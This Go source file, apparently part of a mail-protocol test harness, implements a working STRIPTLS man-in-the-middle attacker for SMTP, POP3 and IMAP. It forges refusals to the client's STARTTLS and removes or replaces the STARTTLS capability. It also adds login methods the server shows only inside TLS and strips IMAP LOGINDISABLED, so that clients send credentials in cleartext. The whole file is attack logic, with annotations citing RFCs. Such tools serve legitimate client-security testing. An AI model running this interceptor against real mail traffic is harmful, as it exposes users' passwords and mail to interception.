package mitm

import (
	"bytes"
	"fmt"
	"slices"
	"strings"

	"github.com/mailwire/mailwire/sessions/protocol"
	"github.com/mailwire/mailwire/sessions/wire"
)

// The STRIPTLS attacker on a STARTTLS port (RFC 3207 §6, RFC 2595 §2.2,
// RFC 8314 §5): upgrade the attacker's own leg first, then keep the
// client's leg in cleartext and relay.

// strip serves one client on a STARTTLS port.
func (c *pconn) strip() {
	c.cconn = c.client
	c.cr = protocol.NewLineReader(c.client, c.cfg.MaxLine)
	c.cr.SetBefore(c.clientDeadline)
	if err := c.dialUpstream(); err != nil {
		return
	}
	defer c.finish()
	greeting, err := c.prepareUpstream()
	if err != nil {
		return
	}
	if err := c.writeClient(c.clientGreeting(greeting)); err != nil {
		c.p.fail("greet the client", err, "")
		return
	}
	c.relay()
}

// prepareUpstream reads the server's greeting, asks its capabilities,
// upgrades the attacker's leg with STARTTLS and asks again. It returns the
// greeting as the server sent it.
func (c *pconn) prepareUpstream() ([]byte, error) {
	switch c.cfg.Proto {
	case protocol.SMTP:
		return c.prepareSMTP()
	case protocol.POP3:
		return c.preparePOP3()
	}
	return c.prepareIMAP()
}

func (c *pconn) prepareSMTP() ([]byte, error) {
	g, err := c.readSMTPReply("read the server's greeting")
	if err != nil {
		return nil, err
	}
	if g.Code != 220 {
		// No service (RFC 5321 §3.1): nothing to attack; the client hears it.
		return g.Raw, nil
	}
	ehlo := func() ([]string, error) {
		if err := c.sendUp([]byte("EHLO "+attackerEHLO+"\r\n"), nil); err != nil {
			return nil, err
		}
		r, err := c.readSMTPReply("read the EHLO reply")
		if err != nil || r.Code != 250 {
			return nil, err
		}
		c.ehloFirst = r.Lines[0]
		return r.Lines[1:], nil
	}
	return g.Raw, c.upgradeUpstream(ehlo, "STARTTLS", func() (bool, error) {
		if err := c.sendUp([]byte("STARTTLS\r\n"), nil); err != nil {
			return false, err
		}
		r, err := c.readSMTPReply("read the STARTTLS reply")
		return err == nil && r.Code == 220, err
	}, "RFC 3207 §4")
}

func (c *pconn) preparePOP3() ([]byte, error) {
	g, err := c.readPOP3("read the server's greeting", false)
	if err != nil {
		return nil, err
	}
	if !bytes.HasPrefix(g, []byte("+OK")) {
		return g, nil
	}
	capa := func() ([]string, error) {
		if err := c.sendUp([]byte("CAPA\r\n"), nil); err != nil {
			return nil, err
		}
		r, err := c.readPOP3("read the CAPA response", true)
		if err != nil || !bytes.HasPrefix(r, []byte("+OK")) {
			return nil, err
		}
		lines := splitLines(r)
		return lines[1 : len(lines)-1], nil // without "+OK …" and "."
	}
	return g, c.upgradeUpstream(capa, "STLS", func() (bool, error) {
		if err := c.sendUp([]byte("STLS\r\n"), nil); err != nil {
			return false, err
		}
		r, err := c.readPOP3("read the STLS response", false)
		return err == nil && bytes.HasPrefix(r, []byte("+OK")), err
	}, "RFC 2595 §4")
}

func (c *pconn) prepareIMAP() ([]byte, error) {
	g, err := c.readIMAP("read the server's greeting", "")
	if err != nil {
		return nil, err
	}
	if !bytes.HasPrefix(g, []byte("* OK")) {
		return g, nil // PREAUTH or BYE: nothing to strip
	}
	capability := func() ([]string, error) {
		tag := c.nextTag()
		if err := c.sendUp([]byte(tag+" CAPABILITY\r\n"), nil); err != nil {
			return nil, err
		}
		r, err := c.readIMAP("read the CAPABILITY response", tag)
		if err != nil {
			return nil, err
		}
		for _, l := range splitLines(r) {
			if rest, ok := cutPrefixFold(l, "* CAPABILITY "); ok {
				return strings.Fields(rest), nil
			}
		}
		return nil, nil
	}
	return g, c.upgradeUpstream(capability, "STARTTLS", func() (bool, error) {
		tag := c.nextTag()
		if err := c.sendUp([]byte(tag+" STARTTLS\r\n"), nil); err != nil {
			return false, err
		}
		r, err := c.readIMAP("read the STARTTLS response", tag)
		return err == nil && bytes.HasPrefix(r, []byte(tag+" OK")), err
	}, "RFC 9051 §6.2.1")
}

// upgradeUpstream is the attacker's own STARTTLS towards the server, the
// same for every protocol: ask for the capabilities in cleartext (what the
// client will be shown, modified), upgrade when the server offers it, and
// ask again inside TLS, where the login methods appear (RFC 3207 §4.2, RFC
// 2595 §4, RFC 9051 §6.2.1). verb is the upgrade command's name (STLS on
// POP3); upgrade sends it and says whether the server said go ahead; cite
// is the rule for the boundary note. A server without the offer, or one
// that refuses, leaves the attacker relaying in cleartext.
func (c *pconn) upgradeUpstream(ask func() ([]string, error), verb string, upgrade func() (bool, error), cite string) error {
	var err error
	if c.clearCaps, err = ask(); err != nil {
		return err
	}
	c.intercept = true
	if !hasCap(c.clearCaps, verb) {
		c.upstreamCleartext("the server offers no " + verb)
		return nil
	}
	ok, err := upgrade()
	if err != nil {
		return err
	}
	if !ok {
		c.upstreamCleartext("the server refused the attacker's " + verb)
		return nil
	}
	if err := c.startUpstreamTLS("tls.boundary.starttls",
		"the server accepted the attacker's "+verb+": the attacker's own leg is TLS from the next byte ("+cite+")"); err != nil {
		return err
	}
	c.tlsCaps, err = ask()
	return err
}

func (c *pconn) upstreamCleartext(why string) {
	c.p.note(why+": the attacker's own leg stays cleartext too, and the attacker relays in cleartext",
		"attack.upstream.cleartext", nil)
}

// readSMTPReply reads one reply with the engine's parser (RFC 5321
// §4.2.1) and emits it.
func (c *pconn) readSMTPReply(op string) (*protocol.Reply, error) {
	r, err := protocol.ReadSMTPReply(c.ur, maxReplyLines)
	if err != nil {
		_, err = c.readFailed(op, r.Raw, err)
		return nil, err
	}
	c.received(r.Raw, "")
	return r, nil
}

// readPOP3 reads one response (RFC 1939 §3), multi-line ones up to the
// lone "." when positive.
func (c *pconn) readPOP3(op string, multi bool) ([]byte, error) {
	raw, err := c.ur.ReadLine()
	if err != nil {
		return c.readFailed(op, raw, err)
	}
	if multi && bytes.HasPrefix(raw, []byte("+OK")) {
		for n := 0; ; n++ {
			if n >= maxReplyLines {
				return c.readFailed(op, raw, fmt.Errorf("%w: more than %d lines", protocol.ErrTooManyLines, maxReplyLines))
			}
			line, err := c.ur.ReadLine()
			raw = append(raw, line...)
			if err != nil {
				return c.readFailed(op, raw, err)
			}
			if isDotLine(line) {
				break
			}
		}
	}
	ann := ""
	if op == "read the server's greeting" {
		ann = "pop3.greeting"
	}
	c.received(raw, ann)
	return raw, nil
}

// readIMAP reads the responses up to the one tagged tag, or with tag ""
// one line (the greeting, RFC 9051 §7.1).
func (c *pconn) readIMAP(op, tag string) ([]byte, error) {
	var raw []byte
	for range maxReplyLines {
		line, err := c.ur.ReadLine()
		raw = append(raw, line...)
		if err != nil {
			return c.readFailed(op, raw, err)
		}
		if tag == "" || bytes.HasPrefix(line, []byte(tag+" ")) {
			ann := ""
			if tag == "" {
				ann = "imap.greeting"
			}
			c.received(raw, ann)
			return raw, nil
		}
	}
	return c.readFailed(op, raw, fmt.Errorf("%w: more than %d lines", protocol.ErrTooManyLines, maxReplyLines))
}

func (c *pconn) readFailed(op string, raw []byte, err error) ([]byte, error) {
	if len(raw) > 0 {
		c.received(raw, "")
	}
	c.p.fail(op, err, "")
	return nil, err
}

// clientGreeting is the greeting the client gets: the server's, except
// for IMAP, whose greeting may list capabilities (RFC 9051 §7.1) and
// which the preauth attack turns into PREAUTH.
func (c *pconn) clientGreeting(g []byte) []byte {
	if c.cfg.Proto != protocol.IMAP || !c.intercept {
		return g
	}
	text := strings.TrimRight(strings.TrimPrefix(string(g), "* OK"), "\r\n")
	var caps []string
	if code, rest, ok := strings.Cut(strings.TrimSpace(text), "]"); ok && hasPrefixFold(code, "[CAPABILITY ") {
		caps, _ = c.editCaps(strings.Fields(code[len("[CAPABILITY "):]))
		text = " [CAPABILITY " + strings.Join(caps, " ") + "]" + rest
	}
	if c.cfg.Attack == StripPreauth {
		out := []byte("* PREAUTH" + text + "\r\n")
		c.p.note(fmt.Sprintf("the attacker replaced the server's greeting %s by %s: the client now believes it is logged in, "+
			"and STARTTLS is only allowed before that (RFC 9051 §6.2.1). The attacker has no password for the server, so the "+
			"server will refuse what the client asks next; a real attacker would play the mailbox itself",
			wire.Quote(lineText(g), 200), wire.Quote(lineText(out), 200)), "attack.strip.preauth", out)
		return out
	}
	out := []byte("* OK" + text + "\r\n")
	if !bytes.Equal(out, g) {
		_, changes := c.editCaps(c.clearCaps)
		c.capsNote("the attacker rewrote the capabilities in the server's greeting", changes, out)
	}
	return out
}

// answer handles the client's capability requests and STARTTLS itself.
// It reports whether it did.
func (c *pconn) answer(line []byte) (bool, error) {
	verb, _ := protocol.ClientCommand(c.cfg.Proto, line)
	tag := ""
	if c.cfg.Proto == protocol.IMAP {
		tag, _, _ = strings.Cut(strings.TrimRight(string(line), "\r\n"), " ")
	}
	switch {
	case c.cfg.Proto == protocol.SMTP && verb == "EHLO" && c.cfg.Attack == StripRefuseEHLO:
		out := []byte("502 5.5.2 Error: command not recognized\r\n")
		c.p.note("the attacker answered the client's EHLO with 502 itself: the client falls back to HELO (RFC 5321 §4.1.4) "+
			"and learns of no extension at all, STARTTLS included", "attack.strip.ehlo_refused", out)
		return true, c.writeClient(out)
	case c.cfg.Proto == protocol.SMTP && verb == "EHLO" && !c.credSeen.Load():
		return true, c.answerCaps(c.ehloReply(line))
	case c.cfg.Proto == protocol.POP3 && verb == "CAPA" && !c.credSeen.Load():
		caps, _ := c.editCaps(c.clearCaps)
		out := "+OK Capability list follows\r\n" + strings.Join(caps, "\r\n")
		if len(caps) > 0 {
			out += "\r\n"
		}
		return true, c.answerCaps([]byte(out + ".\r\n"))
	case c.cfg.Proto == protocol.IMAP && verb == "CAPABILITY" && !c.credSeen.Load():
		caps, _ := c.editCaps(c.clearCaps)
		out := "* CAPABILITY " + strings.Join(caps, " ") + "\r\n" + tag + " OK CAPABILITY completed\r\n"
		return true, c.answerCaps([]byte(out))
	case verb == protocol.StartTLSVerb(c.cfg.Proto):
		out := c.refusal(tag)
		c.p.note(fmt.Sprintf("the attacker answered the client's %s itself with %s and did not pass it on: the client's connection stays cleartext",
			verb, wire.Quote(lineText(out), 200)), "attack.strip.refused", out)
		return true, c.writeClient(out)
	}
	return false, nil
}

// answerCaps sends a capability answer the attacker wrote, with a note.
func (c *pconn) answerCaps(out []byte) error {
	_, changes := c.editCaps(c.clearCaps)
	c.capsNote("the attacker answered the client's capability request itself", changes, out)
	return c.writeClient(out)
}

// capsNote says what the attacker changed in a capability list it sent
// the client (what: where the list was).
func (c *pconn) capsNote(what string, changes []string, out []byte) {
	if len(changes) == 0 {
		c.p.note(what+", with the server's cleartext list unchanged", "attack.strip.capabilities", out)
		return
	}
	ann := "attack.strip.auth_added"
	switch {
	case slices.ContainsFunc(changes, func(s string) bool { return strings.HasPrefix(s, "removed "+protocol.StartTLSVerb(c.cfg.Proto)) }):
		ann = "attack.strip.removed"
	case slices.ContainsFunc(changes, func(s string) bool { return strings.HasPrefix(s, "replaced ") }):
		ann = "attack.strip.replaced"
	}
	c.p.note(what+", from the server's cleartext list: "+strings.Join(changes, "; "), ann, out)
}

// ehloReply builds the EHLO reply the client gets: the server's cleartext
// one, edited, greeting the client's own name.
func (c *pconn) ehloReply(line []byte) []byte {
	caps, _ := c.editCaps(c.clearCaps)
	first := c.ehloFirst
	if f := strings.Fields(string(line)); len(f) >= 2 && len(f[1]) <= 255 {
		first = strings.ReplaceAll(first, attackerEHLO, f[1])
	}
	lines := append([]string{first}, caps...)
	var b strings.Builder
	for i, l := range lines {
		sep := "-"
		if i == len(lines)-1 {
			sep = " "
		}
		b.WriteString("250" + sep + l + "\r\n")
	}
	return []byte(b.String())
}

// refusal is the attacker's answer to the client's STARTTLS/STLS.
func (c *pconn) refusal(tag string) []byte {
	switch c.cfg.Proto {
	case protocol.POP3:
		if c.cfg.Attack == StripRefuse {
			return []byte("-ERR [SYS/TEMP] TLS not available\r\n")
		}
		return []byte("-ERR Unknown command.\r\n")
	case protocol.IMAP:
		if c.cfg.Attack == StripRefuse {
			return []byte(tag + " NO TLS not available\r\n")
		}
		return []byte(tag + " BAD Unknown command\r\n")
	}
	switch c.cfg.Attack {
	case StripRefuse:
		// RFC 3207 §4's own wording for a temporary failure.
		return []byte("454 4.7.0 TLS not available due to temporary reason\r\n")
	case StripRefuseSyntax:
		return []byte("501 5.5.4 Syntax error (no parameters allowed)\r\n")
	case StripRefuseUnimplemented:
		return []byte("502 5.5.1 Command not implemented\r\n")
	}
	// What a server without the extension says (Postfix's words).
	return []byte("502 5.5.2 Error: command not recognized\r\n")
}

// editCaps applies the attack to the server's cleartext capabilities
// (EHLO keyword lines, CAPA lines, IMAP atoms): STARTTLS removed or
// replaced, and the login adverts the server shows only inside TLS added,
// so that the client logs in in cleartext. It returns the list and what
// changed, in words.
func (c *pconn) editCaps(clear []string) ([]string, []string) {
	proto, stls := c.cfg.Proto, protocol.StartTLSVerb(c.cfg.Proto)
	var out, changes []string
	for _, cp := range clear {
		kw := capKeyword(cp)
		switch {
		case kw == stls && (c.cfg.Attack == StripRemove || c.cfg.Attack == StripPreauth):
			changes = append(changes, "removed "+stls)
		case kw == stls && c.cfg.Attack == StripReplace:
			out = append(out, junkFor(proto))
			changes = append(changes, fmt.Sprintf("replaced %s by %s", stls, junkFor(proto)))
		case proto == protocol.IMAP && kw == "LOGINDISABLED":
			// RFC 9051 §6.2.3: with it the client must not send LOGIN.
			changes = append(changes, "removed LOGINDISABLED")
		case isLoginCap(proto, kw):
			if i := slices.IndexFunc(c.tlsCaps, func(t string) bool { return capKeyword(t) == kw }); i >= 0 && c.tlsCaps[i] != cp {
				out = append(out, c.tlsCaps[i])
				changes = append(changes, fmt.Sprintf("changed %s to %s, as the server shows it inside TLS", wire.Quote(cp, 80), wire.Quote(c.tlsCaps[i], 80)))
				continue
			}
			out = append(out, cp)
		default:
			out = append(out, cp)
		}
	}
	for _, t := range c.tlsCaps {
		kw := capKeyword(t)
		if isLoginCap(proto, kw) && !slices.ContainsFunc(clear, func(cp string) bool { return capKeyword(cp) == kw }) {
			out = append(out, t)
			changes = append(changes, "added "+t+", which the server shows only inside TLS")
		}
	}
	return out, changes
}

// isLoginCap says whether a capability advertises a way to log in: SMTP
// AUTH (RFC 4954 §3), POP3 USER and SASL (RFC 2449 §6.3, §6.8), IMAP
// AUTH= (RFC 9051 §7.2.2).
func isLoginCap(proto, kw string) bool {
	switch proto {
	case protocol.SMTP:
		return kw == "AUTH" || strings.HasPrefix(kw, "AUTH=")
	case protocol.POP3:
		return kw == "USER" || kw == "SASL"
	}
	return strings.HasPrefix(kw, "AUTH=")
}

// junkFor is the same-length junk keyword that replaces STARTTLS/STLS.
func junkFor(proto string) string {
	switch proto {
	case protocol.POP3:
		return "XXXX"
	case protocol.IMAP:
		return "XXXXXXXX"
	}
	return "XXXXXXXA"
}

func capKeyword(cp string) string {
	kw, _, _ := strings.Cut(strings.TrimSpace(cp), " ")
	return strings.ToUpper(kw)
}

func hasCap(caps []string, kw string) bool {
	return slices.ContainsFunc(caps, func(cp string) bool { return capKeyword(cp) == kw })
}

// splitLines splits raw into lines without their terminators.
func splitLines(raw []byte) []string {
	s := strings.TrimSuffix(strings.ReplaceAll(string(raw), "\r\n", "\n"), "\n")
	return strings.Split(s, "\n")
}

func hasPrefixFold(s, prefix string) bool {
	return len(s) >= len(prefix) && strings.EqualFold(s[:len(prefix)], prefix)
}

func cutPrefixFold(s, prefix string) (string, bool) {
	if !hasPrefixFold(s, prefix) {
		return s, false
	}
	return s[len(prefix):], true
}
